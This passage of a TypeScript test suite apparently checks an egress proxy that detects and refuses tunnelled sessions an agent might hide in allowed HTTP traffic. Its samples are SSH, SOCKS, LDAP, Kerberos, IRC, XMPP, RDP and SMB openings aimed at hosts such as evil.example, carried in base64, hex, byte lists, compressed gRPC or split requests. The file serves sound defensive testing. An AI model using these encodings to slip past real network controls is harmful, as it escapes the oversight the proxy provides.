  for (const [what, body, ct] of [['a scanner\'s banners in JSON', shodan, 'application/json'], ['HTML', Buffer.from('<!doctype html><title>220 volts</title>'), 'text/html'],
    ['a text file', Buffer.from('220 volts, 50 Hz\n+OK is an answer\n'), 'text/plain'], ['an MP3', Buffer.from('fffb9064000ff000000069000000080000', 'hex'), 'audio/mpeg'],
    ['a JPEG', Buffer.from('ffd8ffe000104a46494600010100', 'hex'), 'image/jpeg'], ['a health check', Buffer.from('+OK'), 'text/plain'], ['a CSV', Buffer.from('220,volts\r\n230,volts\r\n'), 'text/csv']] as const) {
    t.notOk(cut(new AnswerTunnels(), 'agent', [[body, [['content-type', ct]]]], []), `${what} goes on`);
  }
  t.equal(new AnswerTunnels().watch('agent', 'http://allowed.example', { method: 'GET', url: 'http://allowed.example/page', bodyLength: 0 }, [['content-length', '10']]), undefined, 'a page fetched by GET with its length is not read');
  // Found at the merge (real files from Debian, read in bulk): a TLS record header and a hello's
  // type inside a PNG, a TrueType font and a gettext catalog were read as a hello (the hello's own
  // layout was never asked), and a streamed answer's later chunk starting 0x50 with zeros at 9–13
  // (an ELF library) as OpenVPN's first datagram; each refused the upload, or cut the answer and
  // marked its origin a tunnel server for ten minutes.
  const media: Array<[string, string]> = [
    ['a PNG', '2a08243a10374005378c46140413121716032811050101137d33faa242245178d044c78851c1b83d88c490b845711c1004dc884159445151d661750686f1a1ef8d6472abefa93e7db69bfb27f572a6efdf555de7f4a9'],
    ['a TrueType font', '00000122070607231336373633212017160302002901373b022037361202212301abe355592481439e92617701940182b1b24544fe03fe7ffdae14becbba0123bcbc79f7fedcba056a595bba0158670911c5c5fea1fe'],
    ['a gettext catalog', '000000000e00000005030000be020000160300006d0200005403000078000000a603000000000000000000000000000000000000d5000000560100008c010000bb03000003010000520300003f0100003e0300000000'],
  ];
  for (const [what, hex] of media) {
    const bytes = Buffer.from(hex, 'hex');
    const alone = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: bytes, truncated: false });
    t.notOk(alone && 'refusal' in alone, `${what} uploaded goes on`);
    t.notOk(cut(new AnswerTunnels(), 'agent', [[bytes, [['content-type', 'application/octet-stream']]]], [7, 40]), `${what} in an answer goes on`);
  }
  const elfChunk = Buffer.concat([Buffer.from([0x50]), Buffer.from('a1b2c3d4e5f60718', 'hex'), Buffer.alloc(5), crypto.randomBytes(200)]);
  t.notOk(cut(new AnswerTunnels(), 'agent', [[Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(993, 7), elfChunk]), [['content-type', 'application/octet-stream']]]], [1000]), 'a streamed answer whose later chunk starts as an OpenVPN datagram goes on');

  // The client side of those protocols (and of the databases') as a request body, whole or cut across bodies.
  const pgStartup = (() => { const p = Buffer.from('\0\x03\0\0user\0app\0database\0app\0\0', 'latin1'); const l = Buffer.alloc(4); l.writeUInt32BE(p.length + 4); return Buffer.concat([l, p]); })();
  const mongo = (() => { const bson = Buffer.from('130000001068656c6c6f000100000000', 'hex'); const h = Buffer.alloc(21); h.writeInt32LE(21 + bson.length, 0); h.writeInt32LE(7, 4); h.writeInt32LE(2013, 12); return Buffer.concat([h, bson]); })();
  const clients: Array<[string, Buffer]> = [
    ['ehlo', Buffer.from('EHLO agent.example\r\n')], ['helo', Buffer.from('helo agent\r\n')], ['lhlo', Buffer.from('LHLO x.example\n')], ['imap', Buffer.from('a001 LOGIN alice s3cret\r\n')],
    ['imap-cap', Buffer.from('A1 CAPABILITY\r\n')], ['ftp', Buffer.from('USER anonymous\r\n')], ['auth-tls', Buffer.from('AUTH TLS\r\n')], ['vnc', Buffer.from('RFB 003.008\n')],
    ['pg', pgStartup], ['pg-ssl', Buffer.from('0000000804d2162f', 'hex')], ['mysql', mysqlHandshake()], ['mongo', mongo],
    ['tds', Buffer.from('1201002f0000010000001a0006010020000102002100010300220004040026000100', 'hex')], ['rdp', Buffer.from('030000130ee000000000000100080003000000', 'hex')],
    ['redis', Buffer.from('*1\r\n$4\r\nPING\r\n')], ['telnet', Buffer.from('fffb18fffb1f', 'hex')],
  ];
  fc.assert(fc.property(fc.constantFrom(...clients), fc.constantFrom('raw', 'base64', 'form-bytes'), fc.nat(), ([, start], framing, at) => {
    const sent = sentInBodies(start, framing, at);
    // (A whole body is decoded from base64 from 12 characters on: a shorter start is read across bodies.)
    if (!sent.alone && !(framing === 'base64' && start.length < 9)) throw new Error(`not refused alone: ${framing} ${start.subarray(0, 12).toString('hex')}`);
    if (!sent.across && framing !== 'base64') throw new Error(`not refused across bodies: ${framing} ${start.subarray(0, 12).toString('hex')} cut at ${sent.cutAt}`);
  }), { numRuns: numRuns * 2, ...seed });
  // A tunnel whose client side rides GETs: an opening cut across the query values of successive requests.
  const sshLine = Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n');
  const socks5 = Buffer.from('050100050100030d61646d696e2e6578616d706c650016', 'hex');
  const hello = Buffer.from('16030100c4010000c00303' + '00'.repeat(32) + '00', 'hex');
  fc.assert(fc.property(fc.constantFrom(sshLine, socks5, hello, clients[0]![1], pgStartup), fc.array(fc.nat(), { minLength: 1, maxLength: 3 }), fc.constantFrom('base64url', 'bytes'), fc.boolean(), (opening, cuts, framing, padded) => {
    if (opening === sshLine && framing === 'bytes') return; // (a value's text may quote a banner)
    const points = [...new Set(cuts.map((c) => 1 + (c % (opening.length - 1))))].sort((a, b) => a - b);
    const pieces = [0, ...points].map((p, i, all) => opening.subarray(p, all[i + 1] ?? opening.length));
    const streams = new BodyStreams();
    for (const [i, piece] of pieces.entries()) {
      const d = framing === 'base64url' ? piece.toString('base64url') : [...piece].map((c) => `%${c.toString(16).padStart(2, '0')}`).join('');
      const url = `http://allowed.example/t?${padded ? `x_padding=${'X'.repeat(10 + i * 7)}&` : ''}sid=ab12&d=${d}`;
      if (streams.read('agent', 'http://allowed.example', { captured: Buffer.alloc(0), truncated: false }, [], url)) return;
      if (i === pieces.length - 1) throw new Error(`never refused: ${framing} ${opening.subarray(0, 12).toString('hex')} cut at ${points.join(',')}`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  fc.assert(fc.property(fc.array(fc.tuple(fc.constantFrom('q', 'page', 'search', 'cursor', 'id'), fc.string({ maxLength: 30 })), { minLength: 2, maxLength: 30 }), (gets) => {
    const streams = new BodyStreams();
    for (const [k, v] of gets) {
      const r = streams.read('agent', 'http://allowed.example', { captured: Buffer.alloc(0), truncated: false }, [], `http://allowed.example/s?${k}=${encodeURIComponent(v)}&n=2`);
      if (r) throw new Error(`${r}: ${JSON.stringify(gets)}`);
    }
  }), { numRuns: numRuns * 2, ...seed });
  // SMTP pipelined after a line of its own (a server reads every line as a command).
  for (const body of ['NOOP\r\nEHLO x.example\r\nMAIL FROM:<a@x.example>\r\nRCPT TO:<b@admin.example>\r\nDATA\r\n', '\r\nhelo x\r\nmail from:<a@x>\r\n', 'RSET\nLHLO y\nMAIL FROM: <a@y>\n']) {
    const r = bodyTunnel(['Content-Type', 'text/plain'], 'http://allowed.example/up', { captured: Buffer.from(body), truncated: false });
    t.ok(r && 'refusal' in r, `SMTP pipelined in a body is refused: ${JSON.stringify(body.slice(0, 20))}`);
    // Cut across bodies anywhere (a tunnel server joins them): refused where the MAIL FROM: line completes.
    for (const at of [1, 5, 9, body.indexOf('MAIL') + 2]) {
      const streams = new BodyStreams();
      const parts = [body.slice(0, at), body.slice(at)];
      const refused = parts.some((p) => { const alone = bodyTunnel(['Content-Type', 'text/plain'], 'http://allowed.example/up', { captured: Buffer.from(p), truncated: false }); return (alone && 'refusal' in alone) || streams.read('agent', 'http://allowed.example', { captured: Buffer.from(p), truncated: false }, ['Content-Type', 'text/plain']) !== undefined; });
      t.ok(refused, `and cut at ${at}`);
    }
  }
  for (const body of ['Hello there\r\n', 'USER guide\n', 'We say EHLO first, then MAIL FROM:<x> (RFC 5321)\n', 'help me\r\n', 'Ehlo is a word', 'My LIST\r\n', 'a1 SELECT inbox\r\n', '* OK then\r\n', '*bold* text', 'RFB is a format']) {
    t.equal(bodyTunnel(['Content-Type', 'text/plain'], 'http://allowed.example/notes', { captured: Buffer.from(body), truncated: false }), undefined, `a body ${JSON.stringify(body)} goes on`);
  }
  t.end();
});

/** OpenLDAP 2.5's `ldapsearch -x -D cn=admin,dc=example,dc=org -w secret` and `-ZZ` (StartTLS), MIT krb5 1.20's `kinit admin@EVIL.EXAMPLE` over TCP, as they wrote them on loopback. */
const LDAP_BIND = Buffer.from('302c0201016027020103041a636e3d61646d696e2c64633d6578616d706c652c64633d6f72678006736563726574', 'hex');
const LDAP_STARTTLS = Buffer.from('301d02010177188016312e332e362e312e342e312e313436362e3230303337', 'hex');
const KINIT_TCP = Buffer.from('000000b96a81b63081b3a103020105a20302010aa31a3018300aa10402020096a2020400300aa10402020095a2020400a4818a308187a00703050000000010a1123010a003020101a10930071b0561646d696ea20e1b0c4556494c2e4558414d504c45a321301fa003020102a11830161b066b72627467741b0c4556494c2e4558414d504c45a511180f32303236313230383231303232305aa706020451db5a01a81a301802011202011102011402011302011002011702011902011a', 'hex');

/** A BER element: its tag, a length in short form or in `long` bytes of long form (Novell's and .NET's writers use four), its content. */
function ber(tag: number, content: Buffer, long = 0): Buffer {
  if (!long && content.length < 0x80) return Buffer.concat([Buffer.from([tag, content.length]), content]);
  const n = Math.max(long, content.length > 0xffff ? 3 : content.length > 0xff ? 2 : 1);
  const len = Buffer.alloc(n);
  len.writeUIntBE(content.length, 0, n);
  return Buffer.concat([Buffer.from([tag, 0x80 | n]), len, content]);
}
const berInt = (v: number): Buffer => { const b: number[] = []; do { b.unshift(v & 0xff); v = Math.floor(v / 256); } while (v); if (b[0]! & 0x80) b.unshift(0); return ber(0x02, Buffer.from(b)); };

t.test('twenty-eighth pass: LDAP, Kerberos, IRC, XMPP, NNTP, RDP and SMB openings are never relayed, in a WebSocket tunnel or in bodies (compressed gRPC messages too), and their servers\' first words cut a body tunnel\'s answers', (t) => {
  // Protocols that reach past their server (a directory's every entry, a realm's KDC, a chat or
  // news network, a desktop, a file share) whose first words are text or BER: no reading knew them,
  // so through a bridge or a body tunnel each session went on undecided.
  const long = fc.constantFrom(0, 0, 1, 4);
  const ldap = fc.tuple(fc.integer({ min: 1, max: 0x7fffffff }), fc.constantFrom('bind', 'sasl', 'search', 'starttls', 'add', 'delete'), fc.stringMatching(/^[a-z]{1,12}$/), long, long).map(([id, op, word, l1, l2]) => {
    const dn = Buffer.from(`cn=${word},dc=example,dc=org`);
    const body = {
      bind: ber(0x60, Buffer.concat([berInt(3), ber(0x04, dn), ber(0x80, Buffer.from('s3cret'))]), l2),
      sasl: ber(0x60, Buffer.concat([berInt(3), ber(0x04, Buffer.alloc(0)), ber(0xa3, ber(0x04, Buffer.from('GSSAPI')))]), l2),
      search: ber(0x63, Buffer.concat([ber(0x04, dn), ber(0x0a, Buffer.from([2])), ber(0x0a, Buffer.from([0])), berInt(0), berInt(0), ber(0x01, Buffer.from([0])), ber(0x87, Buffer.from('objectClass')), ber(0x30, Buffer.alloc(0))]), l2),
      starttls: ber(0x77, ber(0x80, Buffer.from('1.3.6.1.4.1.1466.20037')), l2),
      add: ber(0x68, Buffer.concat([ber(0x04, dn), ber(0x30, ber(0x30, Buffer.concat([ber(0x04, Buffer.from('cn')), ber(0x31, ber(0x04, Buffer.from(word)))])))]), l2),
      delete: ber(0x4a, dn, l2),
    }[op]!;
    return ber(0x30, Buffer.concat([berInt(id), body]), l1);
  });
  const kerberos = fc.tuple(fc.constantFrom('tcp', 'udp', 'kkdcp'), fc.constantFrom(0x6a, 0x6c)).map(([how, type]) => {
    const req = Buffer.from(KINIT_TCP.subarray(4));
    req[0] = type;
    req[KINIT_TCP.indexOf(Buffer.from('a20302010a', 'hex')) - 4 + 4] = type === 0x6a ? 0x0a : 0x0c;
    const tcp = Buffer.concat([Buffer.alloc(4), req]);
    tcp.writeUInt32BE(req.length);
    // MS-KKDCP (a KDC proxy over HTTPS sends it to the realm it names): the TCP form in an OCTET STRING, then the realm.
    return how === 'udp' ? req : how === 'tcp' ? tcp : ber(0x30, Buffer.concat([ber(0xa0, ber(0x04, tcp)), ber(0xa1, ber(0x1b, Buffer.from('EVIL.EXAMPLE')))]));
  });
  const eol = fc.constantFrom('\r\n', '\n');
  const irc = fc.tuple(fc.boolean(), fc.boolean(), fc.boolean(), fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/), eol, fc.boolean()).map(([cap, pass, userFirst, nick, e, lower]) => {
    const lines = [...(cap ? ['CAP LS 302'] : []), ...(pass ? ['PASS hunter2'] : []), ...(userFirst ? [`USER ${nick} 0 * :Agent`, `NICK ${nick}`] : [`NICK ${nick}`, `USER ${nick} 0 * :Agent`])];
    return Buffer.from(lines.map((l) => (lower ? l.replace(/^[A-Z]+/, (w) => w.toLowerCase()) : l) + e).join(''));
  });
  const xmpp = fc.tuple(fc.boolean(), fc.boolean(), fc.constantFrom('\'', '"'), fc.constantFrom('stream:stream', 's:stream'), fc.constantFrom('', '\n', '  ')).map(([bom, decl, q, name, blank]) => {
    const prefix = name.split(':')[0]!;
    return Buffer.from(`${bom ? '\xef\xbb\xbf' : ''}${decl ? `<?xml version=${q}1.0${q} encoding=${q}UTF-8${q}?>` : ''}${blank}<${name} to=${q}evil.example${q} xmlns=${q}jabber:client${q} xmlns:${prefix}=${q}http://etherx.jabber.org/streams${q} version=${q}1.0${q}>`, 'latin1');
  });
  const nntp = fc.constantFrom('MODE READER\r\n', 'CAPABILITIES\r\n', 'AUTHINFO USER news\r\n', 'mode reader\n').map((l) => Buffer.from(l));
  const other = fc.constantFrom(
    Buffer.from('0300002b26e00000000000436f6f6b69653a206d737473686173683d61646d696e0d0a0100080003000000', 'hex'), // mstsc's X.224 with its cookie
    Buffer.from('030000130ee000000000000100080003000000', 'hex'),
    Buffer.from('00000054ff534d4272000000001843c80000000000000000000000000000fffe00000000', 'hex'), // SMB1 negotiate
    Buffer.from('000000b4fe534d424000010000000000000000000000000000000000000000000000000000', 'hex'), // SMB2 negotiate
  );
  const opening = fc.oneof(ldap, kerberos, irc, xmpp, nntp, other, fc.constantFrom(LDAP_BIND, LDAP_STARTTLS, KINIT_TCP));
  // In a WebSocket tunnel: cut anywhere, after a bridge's JSON header or not.
  fc.assert(fc.property(opening, fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(), (start, cuts, header) => {
    const scan = new InnerSessionScan();
    const first = header ? scan.read(Buffer.from('{"connect":"svc:389"}')) : undefined;
    const points = [...new Set(cuts.map((c) => c % start.length))].sort((a, b) => a - b);
    let found = first;
    let at = 0;
    for (const p of [...points, start.length]) { found ??= scan.read(start.subarray(at, p)); at = p; }
    if (!found) throw new Error(`not seen: ${JSON.stringify(start.subarray(0, 40).toString('latin1'))} cut at ${points.join(',')}`);
  }), { numRuns: numRuns * 4, ...seed });
  // As a request body, raw, in base64 or as a form's bytes; and cut across two bodies a tunnel server joins.
  fc.assert(fc.property(opening, fc.constantFrom('raw', 'base64', 'form-bytes'), fc.nat(), (start, framing, at) => {
    const sent = sentInBodies(start, framing, at);
    if (!sent.alone) throw new Error(`not refused alone: ${framing} ${start.subarray(0, 16).toString('hex')}`);
    if (!sent.across && framing !== 'base64') throw new Error(`not refused across bodies: ${framing} ${start.subarray(0, 16).toString('hex')} cut at ${sent.cutAt}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Their servers' first words in a body tunnel's answers (reGeorg's READ, a stream-down): the answer is cut, the origin marked.
  const request = { method: 'POST', url: 'http://allowed.example/tunnel', bodyLength: 0 };
  const servers = [
    Buffer.from('200 news.example.com InterNetNews NNRP server INN 2.7.1 ready (posting ok)\r\n'), Buffer.from('201 NNTP Service Ready, posting prohibited\r\n'),
    Buffer.from(':irc.example.net NOTICE * :*** Looking up your hostname...\r\n'), Buffer.from('NOTICE AUTH :*** Checking Ident\r\n'),
    Buffer.from('<?xml version=\'1.0\'?><stream:stream xmlns=\'jabber:client\' xmlns:stream=\'http://etherx.jabber.org/streams\' id=\'4f2a\' from=\'evil.example\' version=\'1.0\'>'),
  ];
  fc.assert(fc.property(fc.constantFrom(...servers), fc.constantFrom('raw', 'base64'), fc.array(fc.nat(), { maxLength: 3 }), (greeting, framing, cuts) => {
    const body = framing === 'raw' ? greeting : Buffer.from(greeting.toString('base64'));
    const answers = new AnswerTunnels();
    const watch = answers.watch('agent', 'http://allowed.example', request, [['content-type', 'application/octet-stream']]);
    const points = [...new Set(cuts.map((c) => c % body.length))].filter((p) => p > 0).sort((a, b) => a - b);
    const cutIt = [0, ...points].some((p, i) => watch?.chunk(body.subarray(p, [...points, body.length][i])));
    if (!cutIt && !(watch?.end(), answers.refused('agent', 'http://allowed.example'))) throw new Error(`not cut: ${framing} ${JSON.stringify(greeting.subarray(0, 30).toString())}`);
  }), { numRuns: numRuns * 2, ...seed });
  // A binary opening whose first byte reads as a JSON envelope's (`"`, `[`, `{`, or a digit before
  // one) was skipped as a bridge's JSON header, its stream's start never read (on main too: a MySQL
  // handshake response of 91 bytes, `5b 00 00 01`, as a body; an LDAP message 0x22 long, `0"`).
  /** A MySQL handshake response whose payload is `n` long: capabilities, max packet, charset, 23 zeros, a user name. */
  const sized = (n: number): Buffer => {
    const p = Buffer.concat([Buffer.from('85a2bf000000000121', 'hex'), Buffer.alloc(23), Buffer.from('r'.repeat(n - 33)), Buffer.alloc(1)]);
    return Buffer.concat([Buffer.from([p.length, 0, 0, 1]), p]);
  };
  const ldapOf = (n: number): Buffer => ber(0x30, Buffer.concat([berInt(1), ber(0x4a, Buffer.from('x'.repeat(n - 5)))]));
  fc.assert(fc.property(fc.constantFrom(0x22, 0x5b, 0x7b), fc.boolean(), fc.array(fc.nat(), { maxLength: 2 }), (first, mysql, cuts) => {
    const start = mysql ? sized(first) : ldapOf(first);
    if (start[mysql ? 0 : 1] !== first) throw new Error(`laid out wrong: ${start.subarray(0, 4).toString('hex')}`);
    const { found } = scanCut(start, cuts);
    const body = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: start, truncated: false });
    // (A MySQL session in a WebSocket is read statement by statement, proxy/tunnel-sql.ts: the body is what refuses it.)
    if ((!mysql && !found) || !body || !('refusal' in body)) throw new Error(`not refused: ${start.subarray(0, 8).toString('hex')}: ${found}`);
  }), { numRuns, ...seed });
  for (const header of ['{"connect":"db:5432"}', '42["data","x"]', '42/chat,["msg",1]', '451-["data",{"_placeholder":true,"num":0}]']) {
    const scan = new InnerSessionScan();
    t.equal(scan.read(Buffer.from(header)), undefined, `${header} is a bridge's header`);
    t.equal(scan.read(LDAP_BIND), 'an LDAP session', `and the stream after ${header} is read from its start`);
  }
  // gRPC's per-message compression (flag 1, `grpc-encoding: gzip` or `deflate`): a tunnel's
  // messages (raw or in Xray's Hunk) hid any opening from every reading, also one padded to
  // inflate past what is read (its start is read then).
  const grpcFrame = (m: Buffer, flag: number): Buffer => { const h = Buffer.alloc(5); h[0] = flag; h.writeUInt32BE(m.length, 1); return Buffer.concat([h, m]); };
  const socksConnect = Buffer.from('050100050100030d61646d696e2e6578616d706c650016', 'hex');
  fc.assert(fc.property(fc.constantFrom(Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n'), socksConnect, LDAP_BIND, KINIT_TCP), fc.constantFrom('gzip', 'deflate'), fc.constantFrom('raw', 'hunk', 'padded'), fc.boolean(),
    (start, coding, how, before) => {
      const payload = how === 'hunk' ? Buffer.concat([Buffer.from(start.length < 0x80 ? [0x0a, start.length] : [0x0a, 0x80 | (start.length & 0x7f), start.length >> 7]), start]) : how === 'padded' ? Buffer.concat([start, Buffer.alloc(1200 * 1024)]) : start;
      const packed = coding === 'gzip' ? zlib.gzipSync(payload) : zlib.deflateSync(payload);
      const body = Buffer.concat([...(before ? [grpcFrame(zlib.gzipSync(Buffer.alloc(0)), 1)] : []), grpcFrame(packed, 1)]);
      const r = bodyTunnel(['Content-Type', 'application/grpc', 'grpc-encoding', coding], 'http://allowed.example/svc.Tunnel/Stream', { captured: body, truncated: false });
      if (!r || !('refusal' in r)) throw new Error(`not refused: ${coding} ${how} ${start.subarray(0, 8).toString('hex')}`);
    }), { numRuns: numRuns * 2, ...seed });
  fc.assert(fc.property(fc.array(fc.uint8Array({ maxLength: 300 }), { minLength: 1, maxLength: 4 }), fc.constantFrom('gzip', 'deflate'), (msgs, coding) => {
    const body = Buffer.concat(msgs.map((m) => grpcFrame(coding === 'gzip' ? zlib.gzipSync(m) : zlib.deflateSync(m), 1)));
    const r = bodyTunnel(['Content-Type', 'application/grpc', 'grpc-encoding', coding], 'http://allowed.example/svc.Api/Call', { captured: body, truncated: false });
    if (r) throw new Error(`compressed messages refused: ${msgs.map((m) => Buffer.from(m).subarray(0, 8).toString('hex')).join(' ')}`);
  }), { numRuns: numRuns * 2, ...seed });
  // A relay whose envelope carries the bytes in base64 (`{"type": "data", "data": "<base64>"}`, a
  // bare base64 text, socket.io's `42["data", "<base64>"]`), each piece encoded on its own: only a
  // TLS hello, SSH's line and an HTTP request were read in base64 there (on main: a SOCKS CONNECT went on).
  const trojanReq = Buffer.concat([Buffer.from('a'.repeat(56) + '\r\n'), Buffer.from([1, 3, 13]), Buffer.from('admin.example'), Buffer.from([0, 22, 13, 10])]);
  const vlessReq = Buffer.concat([Buffer.from([0]), crypto.randomBytes(16), Buffer.from([0, 1, 0, 22, 2, 13]), Buffer.from('admin.example')]);
  fc.assert(fc.property(fc.oneof(fc.constantFrom(socksConnect, trojanReq, vlessReq, Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n'), LDAP_BIND, KINIT_TCP), irc),
    fc.constantFrom('json', 'bare', 'socket.io', 'url'), fc.array(fc.nat(), { maxLength: 2 }), fc.boolean(),
    (start, envelope, cuts, greet) => {
      const points = [...new Set(cuts.map((c) => 1 + (c % (start.length - 1))))].sort((a, b) => a - b);
      const pieces = [0, ...points].map((p, i, all) => start.subarray(p, all[i + 1] ?? start.length));
      const scan = new InnerSessionScan();
      let found = greet ? scan.read(Buffer.from('{"type":"hello","version":1}')) : undefined;
      for (const piece of pieces) {
        const b64 = envelope === 'url' ? piece.toString('base64url') : piece.toString('base64');
        const m = envelope === 'json' || envelope === 'url' ? JSON.stringify({ type: 'data', data: b64 }) : envelope === 'bare' ? b64 : `42${JSON.stringify(['data', b64])}`;
        found ??= scan.read(Buffer.from(m));
      }
      if (!found) throw new Error(`not seen: ${envelope} ${start.subarray(0, 12).toString('hex')} cut at ${points.join(',')}`);
    }), { numRuns: numRuns * 4, ...seed });
  // Controls: base64 payloads of the same envelopes that are no opening (a realtime API's audio after its session JSON, images, random bytes), and chat of words.
  fc.assert(fc.property(fc.array(fc.oneof(fc.uint8Array({ minLength: 1, maxLength: 900 }).map((u) => JSON.stringify({ type: 'input_audio_buffer.append', audio: Buffer.from(u).toString('base64') })),
    fc.uint8Array({ minLength: 1, maxLength: 300 }).map((u) => Buffer.from(u).toString('base64')), fc.json(),
    fc.array(fc.constantFrom('ok', 'thanks', 'hello', 'data', 'AAPL', 'NICK', 'done', 'Tg'), { minLength: 1, maxLength: 3 }).map((w) => JSON.stringify({ type: 'chat', text: w.join(' '), tag: w[0] }))), { minLength: 1, maxLength: 8 }),
  (msgs) => {
    const scan = new InnerSessionScan();
    scan.read(Buffer.from('{"type":"session.update","session":{"modalities":["audio"]}}'));
    const found = msgs.map((m) => scan.read(Buffer.from(m))).find(Boolean);
    if (found) throw new Error(`${found}: ${msgs.map((m) => m.slice(0, 40)).join(' | ')}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: DER keys and certificates, SNMP, MQTT and STOMP, IRCv3 and XMPP over WebSocket by
  // design (a line a message without its end; RFC 7395's `<open>`), prose and XML, `200 OK` answers.
  const keys = crypto.generateKeyPairSync('rsa', { modulusLength: 1024 });
  const der = [keys.privateKey.export({ type: 'pkcs1', format: 'der' }), keys.privateKey.export({ type: 'pkcs8', format: 'der' }), keys.publicKey.export({ type: 'spki', format: 'der' }),
    Buffer.from(new crypto.X509Certificate(fs.readFileSync(upstreamCert(tempDir(t, 'airlock-der-'), ['localhost']).certFile)).raw)];
  const snmp = ber(0x30, Buffer.concat([berInt(1), ber(0x04, Buffer.from('public')), ber(0xa0, Buffer.concat([berInt(7), berInt(0), berInt(0), ber(0x30, Buffer.alloc(0))]))]));
  const controls: Buffer[][] = [...der.map((d) => [d]), [snmp], [Buffer.from('101000044d5154540402003c000461626364', 'hex')], [Buffer.from('CONNECT\naccept-version:1.2\nhost:x\n\n\0')],
    [Buffer.from('CAP LS 302'), Buffer.from('NICK agent'), Buffer.from('USER agent 0 * :Agent'), Buffer.from('PRIVMSG #c :hi')],
    [Buffer.from('<open xmlns="urn:ietf:params:xml:ns:xmpp-framing" to="example.com" version="1.0"/>')],
    [Buffer.from('NICK is my name\nUSER guide below\n')], [Buffer.from('<?xml version="1.0"?><rss version="2.0"><channel/></rss>')], [Buffer.from('<stream id="1">data</stream>')],
    [Buffer.from('MODE READER is described in RFC 3977\n')], [Buffer.from('0000000000000000', 'hex')]];
  for (const msgs of controls) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(m)).find(Boolean), undefined, `in a tunnel: ${msgs[0]!.subarray(0, 20).toString('hex')}`);
    const body = Buffer.concat(msgs);
    const alone = bodyTunnel(['Content-Type', 'application/octet-stream'], 'http://allowed.example/up', { captured: body, truncated: false });
    t.notOk(alone && 'refusal' in alone, `as a body: ${body.subarray(0, 20).toString('hex')}`);
  }
  for (const text of ['200 OK\r\n', '200 OK\r\nmore\r\n', '{"status": 200}', '200 volts\n']) {
    const answers = new AnswerTunnels();
    const watch = answers.watch('agent', 'http://allowed.example', request, [['content-type', 'text/plain']]);
    t.notOk(watch?.chunk(Buffer.from(text)) ?? (watch?.end(), answers.refused('agent', 'http://allowed.example')), `an answer ${JSON.stringify(text)} goes on`);
  }
  t.end();
});

t.test('twenty-ninth pass: an opening carried as a list of byte numbers (Node\'s Buffer JSON, Array.from, Python\'s list, a Uint8Array\'s JSON), in hex or in a MessagePack or CBOR bin is never relayed, in a WebSocket tunnel or in bodies, nor in a GET\'s path, cookies or headers', async (t) => {
  // A relay that writes its stream's bytes as JSON numbers — `JSON.stringify(chunk)` of a Node
  // Buffer (`{"type":"Buffer","data":[22,3,1,…]}`), `Array.from(chunk)`, Python's `list(data)`,
  // socket.io's `42["data",[…]]` — or as hex, and writes `Buffer.from(…)` to its service: the
  // openings were read in the digits (hex only for a TLS hello, SSH's line, HTTP/2's preface).
  const host = Buffer.from('admin.example');
  const socks = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, host.length]), host, Buffer.from([0, 22])]);
  const trojan = Buffer.concat([Buffer.from('a'.repeat(56) + '\r\n'), Buffer.from([1, 3, host.length]), host, Buffer.from([0, 22, 13, 10])]);
  const hello = await clientHello({ servername: 'admin.example' });
  // (A multiplexer's frames and VLESS are not read in numbers: lists of small numbers that are data join into their layouts.)
  const openings = [socks, trojan, hello, Buffer.from('SSH-2.0-OpenSSH_9.2p1\r\n'), Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\n'), LDAP_BIND, KINIT_TCP,
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')];
  const list = (b: Buffer, blanks: boolean): string => `[${[...b].join(blanks ? ', ' : ',')}]`;
  const envelopes: Record<string, (b: Buffer) => string> = {
    'node-buffer': (b) => JSON.stringify({ type: 'data', payload: b }), // toJSON: {"type":"Buffer","data":[…]}
    'array': (b) => list(b, false),
    'python-list': (b) => `{"op": "write", "data": ${list(b, true)}}`,
    'socket.io': (b) => `42["data",${list(b, false)}]`,
    'uint8array': (b) => JSON.stringify({ seq: 1, chunk: Uint8Array.from(b) }), // {"0":22,"1":3,…}
    'hex': (b) => b.toString('hex'),
    'HEX-json': (b) => JSON.stringify({ sid: 'c1', data: b.toString('hex').toUpperCase() }),
  };
  const envelope = fc.constantFrom(...Object.keys(envelopes));
  // In a WebSocket tunnel: cut anywhere (1-byte pieces too), after a bridge's header or not.
  fc.assert(fc.property(fc.constantFrom(...openings), envelope, fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(), (start, how, cuts, header) => {
    const points = [...new Set(cuts.map((c) => 1 + (c % (start.length - 1))))].sort((a, b) => a - b);
    const scan = new InnerSessionScan();
    let found = header ? scan.read(Buffer.from('{"type":"hello","version":[1,2,0]}')) : undefined;
    for (const [i, p] of [0, ...points].entries()) found ??= scan.read(Buffer.from(envelopes[how]!(start.subarray(p, points[i] ?? start.length))));
    if (!found) throw new Error(`not seen: ${how} ${start.subarray(0, 12).toString('hex')} cut at ${points.join(',')}`);
  }), { numRuns: numRuns * 3, ...seed });
  // As request bodies: alone, and cut across two bodies a tunnel server joins (each piece in its own envelope).
  const bodyOf: Record<string, (b: Buffer) => Buffer> = {
    'node-buffer': (b) => Buffer.from(JSON.stringify({ data: b })), 'array': (b) => Buffer.from(list(b, false)), 'uint8array': (b) => Buffer.from(JSON.stringify(Uint8Array.from(b))), 'python-list': (b) => Buffer.from(`{"data": ${list(b, true)}}`),
    'hex': (b) => Buffer.from(b.toString('hex')), 'hex-json': (b) => Buffer.from(JSON.stringify({ data: b.toString('hex') })), 'hex-form': (b) => Buffer.from(`id=7&data=${b.toString('hex')}`),
  };
  fc.assert(fc.property(fc.constantFrom(...openings), fc.constantFrom(...Object.keys(bodyOf)), fc.nat(), (start, how, at) => {
    const frame = bodyOf[how]!;
    const ct = how === 'hex-form' ? 'application/x-www-form-urlencoded' : how === 'hex' ? 'text/plain' : 'application/json';
    const alone = bodyTunnel(['Content-Type', ct], 'http://allowed.example/up', { captured: frame(start), truncated: false });
